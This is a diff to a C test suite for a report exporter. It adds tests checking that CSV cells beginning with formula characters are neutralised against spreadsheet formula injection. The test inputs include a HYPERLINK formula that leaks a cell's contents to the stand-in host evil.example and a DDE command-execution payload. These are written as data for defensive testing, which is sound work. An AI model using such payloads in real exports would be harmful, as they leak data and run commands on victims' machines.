@@ -9,6 +9,7 @@
 #include "eventlog.h"
 #include "harness.h"
 #include "reports.h"
+#include "strbuf.h"
 
 #define T0 1767225600.0 /* 2026-01-01T00:00:00Z, a Thursday */
 #define DAY 86400.0
@@ -526,6 +527,134 @@ static void test_csv(struct harness *h)
     eventlog_close(el);
 }
 
+/* One cell through the cell writer; returns it (caller frees). */
+static char *cell(const char *s, size_t n, enum reports_csv_kind kind)
+{
+    struct strbuf sb = STRBUF_INIT;
+
+    strbuf_adds(&sb, "");
+    reports_csv_cell(&sb, s, n, kind);
+    return strbuf_detach(&sb, NULL);
+}
+
+/* CSV injection: a text cell that a spreadsheet would run as a formula
+ * is prefixed with ', for every dangerous first character; numbers the
+ * report formats stay numbers; RFC 4180 quoting still applies. */
+static void test_csv_cell(struct harness *h)
+{
+    static const struct {
+        const char *in, *want;
+    } text[] = {
+        {"=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
+         "\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,"
+         "\"\"click\"\")\""},
+        {"=1+2", "'=1+2"},
+        {"+1+2", "'+1+2"},
+        {"-1+2", "'-1+2"},
+        {"-", "'-"},
+        {"@SUM(A1:A2)", "'@SUM(A1:A2)"},
+        {"\tcmd", "'\tcmd"},
+        {"\r=1", "\"'\r=1\""},
+        {"\r\n", "\"'\r\n\""},
+        {"=a,b", "\"'=a,b\""},
+        {"+\"q\"", "\"'+\"\"q\"\"\""},
+        /* Not dangerous at the start: as they were. */
+        {"late fee", "late fee"},
+        {"a=1", "a=1"},
+        {" =1", " =1"},
+        {"'=1", "'=1"},
+        {"1-2", "1-2"},
+        {"\n=1", "\"\n=1\""},
+        {"a,b", "\"a,b\""},
+        {"", ""},
+    };
+    static const struct {
+        const char *in, *want;
+    } number[] = {
+        {"-3", "-3"}, {"-0.25", "-0.25"}, {"+1", "+1"}, {"12", "12"},
+        {"0.5", "0.5"}, {"-1e+20", "-1e+20"},
+    };
+    size_t i;
+    char *got;
+
+    for (i = 0; i < sizeof text / sizeof text[0]; i++) {
+        got = cell(text[i].in, strlen(text[i].in), REPORTS_CSV_TEXT);
+        CHECK_STR_EQ(h, got, text[i].want);
+        free(got);
+    }
+    for (i = 0; i < sizeof number / sizeof number[0]; i++) {
+        got = cell(number[i].in, strlen(number[i].in), REPORTS_CSV_NUMBER);
+        CHECK_STR_EQ(h, got, number[i].want);
+        free(got);
+    }
+    /* The length is what counts, not a NUL. */
+    got = cell("=x\0y", 4, REPORTS_CSV_TEXT);
+    CHECK(h, got && memcmp(got, "'=x\0y", 5) == 0);
+    free(got);
+    got = cell("=x", 0, REPORTS_CSV_TEXT);
+    CHECK_STR_EQ(h, got, "");
+    free(got);
+}
+
+/* Whole reports: text cells neutralised, numbers (negative ones too)
+ * left as numbers, each dangerous case subject in a "cases" list
+ * prefixed. */
+static void test_csv_injection(struct harness *h)
+{
+    struct eventlog *el = open_mem(h);
+    json_t *r = NULL, *fake;
+    char *csv = NULL;
+
+    search(h, el, T0, "i1", "=HYPERLINK(\"http://evil.example/?x=\"&A1,"
+                            "\"click\")", 0);
+    file_case(h, el, T0 + 1, "i1", "=cmd|' /C calc'!A0");
+    file_case(h, el, T0 + 1.5, "i1", "Invoice, please");
+    search(h, el, T0 + 10, "i2", "@zz", 0);
+    file_case(h, el, T0 + 11, "i2", "Locked out");
+    file_case(h, el, T0 + 11.5, "i2", "+1 555");
+    file_case(h, el, T0 + 11.6, "i2", "-2");
+    CHECK_INT_EQ(h, reports_queries(el, T0, T0 + DAY, WINDOW, T0 + 100, 0,
+                                    &r), 0);
+    CHECK_INT_EQ(h, reports_to_csv(r, "queries", &csv), 0);
+    CHECK_STR_EQ(h, csv, "query,count,results,ctr,confirmed,potential,none\r\n"
+                         "\"'=hyperlink(\"\"http://evil.example/?x=\"\"&a1,"
+                         "\"\"click\"\")\",1,0,0,0,0,1\r\n"
+                         "'@zz,1,0,0,0,0,1\r\n");
+    free(csv);
+    json_decref(r);
+    CHECK_INT_EQ(h, reports_gaps(el, T0, T0 + DAY, 0, &r), 0);
+    CHECK_INT_EQ(h, reports_to_csv(r, "gaps", &csv), 0);
+    CHECK_STR_EQ(h, csv, "query,count,zero_results,no_click,cases\r\n"
+                         "\"'=hyperlink(\"\"http://evil.example/?x=\"\"&a1,"
+                         "\"\"click\"\")\",1,1,0,"
+                         "\"'=cmd|' /C calc'!A0; Invoice, please\"\r\n"
+                         "'@zz,1,1,0,Locked out; '+1 555; '-2\r\n");
+    free(csv);
+    json_decref(r);
+    eventlog_close(el);
+
+    /* Numbers stay numbers, negative ones too; strings that look like
+     * numbers are text. */
+    fake = json_pack("{s:[{s:s, s:i, s:i, s:f, s:i, s:i, s:i}]}", "queries",
+                     "query", "-1", "count", -3, "results", 0, "ctr", -0.5,
+                     "confirmed", 1, "potential", 0, "none", 0);
+    CHECK_INT_EQ(h, reports_to_csv(fake, "queries", &csv), 0);
+    CHECK_STR_EQ(h, csv, "query,count,results,ctr,confirmed,potential,none\r\n"
+                         "'-1,-3,0,-0.5,1,0,0\r\n");
+    free(csv);
+    json_decref(fake);
+    fake = json_pack("{s:[{s:s, s:s, s:i, s:i, s:i, s:i, s:i, s:i}]}",
+                     "articles", "article", "@evil", "section", "\tx",
+                     "views", 1, "clicks", 0, "helpful_yes", 0,
+                     "helpful_no", 0, "confirmed", 0, "potential", 0);
+    CHECK_INT_EQ(h, reports_to_csv(fake, "articles", &csv), 0);
+    CHECK_STR_EQ(h, csv, "article,section,views,clicks,helpful_yes,"
+                         "helpful_no,confirmed,potential\r\n"
+                         "'@evil,'\tx,1,0,0,0,0,0\r\n");
+    free(csv);
+    json_decref(fake);
+}
+
 static void test_dates(struct harness *h)
 {
     double ts = -1;
@@ -555,6 +684,8 @@ int main(void)
     test_gaps(&h);
     test_articles(&h);
     test_csv(&h);
+    test_csv_cell(&h);
+    test_csv_injection(&h);
     test_dates(&h);
     TEST_MAIN_END(&h);
 }
